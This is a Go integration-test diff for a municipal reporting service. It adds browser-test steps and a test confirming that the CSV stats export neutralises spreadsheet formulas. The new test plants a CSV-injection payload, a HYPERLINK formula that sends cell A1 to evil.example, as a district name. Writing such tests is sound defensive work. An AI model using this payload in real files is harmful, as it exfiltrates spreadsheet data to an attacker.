@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
@@ -119,7 +120,7 @@ func TestConsoleAttack9InBrowser(t *testing.T) {
 	if err := cmd.Wait(); err != nil {
 		t.Fatalf("browser script failed: %v (%v)", err, steps["fail"])
 	}
-	for _, want := range []string{"signed-in", "xss", "time-zone", "labels", "live-keeps-input", "expired", "relogin", "restart", "resynced", "done"} {
+	for _, want := range []string{"signed-in", "xss", "time-zone", "labels", "keyboard", "slow-network", "live-keeps-input", "expired", "relogin", "restart", "resynced", "done"} {
 		if steps[want] == nil {
 			t.Fatalf("browser script never reached step %q", want)
 		}
@@ -331,4 +332,63 @@ func TestEventStreamEndsWithTheSession(t *testing.T) {
 	}
 	time.Sleep(6 * time.Second)
 	ended("after revoking the token", lines, s.fileReport(2, "nach dem Widerruf"))
+}
+
+// The numbers' CSV export (GET /api/v1/stats?format=csv, the console's
+// „CSV exportieren“) does not hand a spreadsheet a formula: a district
+// name from the rules' file that starts with "=" is written as text.
+func TestStatsCSVDefusesFormulas(t *testing.T) {
+	if testing.Short() {
+		t.Skip("integration test")
+	}
+	const evil = `=HYPERLINK("http://evil.example/?d="&A1,"Nordstadt")`
+	rules, _ := testsvc.DemoRulesWith(t, map[string]string{"nord: [Nordstadt,": `nord: ['` + evil + `',`})
+	gj := filepath.Join(filepath.Dir(rules), "districts.geojson")
+	b, err := os.ReadFile(gj)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(gj, bytes.Replace(b, []byte(`"Nordstadt"`), []byte(strconv.Quote(evil)), 1), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	s := startStack(t, map[string]string{"FIELDGATE_RULES_FILE": rules})
+	disp := s.newToken("zahlen", "dispatcher")
+	body, ct := form(t, map[string]string{"to": "tiefbau", "text": "Schlagloch", "lat": "51.0412", "lon": "7.5790"}, nil)
+	if resp, rec := s.post(s.token, body, ct); resp.StatusCode != http.StatusAccepted {
+		t.Fatalf("POST: %s %v", resp.Status, rec)
+	}
+	var rows [][]string
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		req, _ := http.NewRequest("GET", s.base+"/api/v1/stats?by=district&format=csv", nil)
+		req.Header.Set("Authorization", "Bearer "+disp)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := csv.NewReader(resp.Body)
+		r.FieldsPerRecord = -1
+		rows, err = r.ReadAll()
+		resp.Body.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) > 1 && len(rows[1]) > 1 && rows[1][0] != "" {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("no district row in the CSV after 20 s: %v", rows)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	if rows[1][0] != "'"+evil {
+		t.Errorf("district cell %q, want the name as text: %q", rows[1][0], "'"+evil)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("CSV cell %q starts a formula", cell)
+			}
+		}
+	}
 }
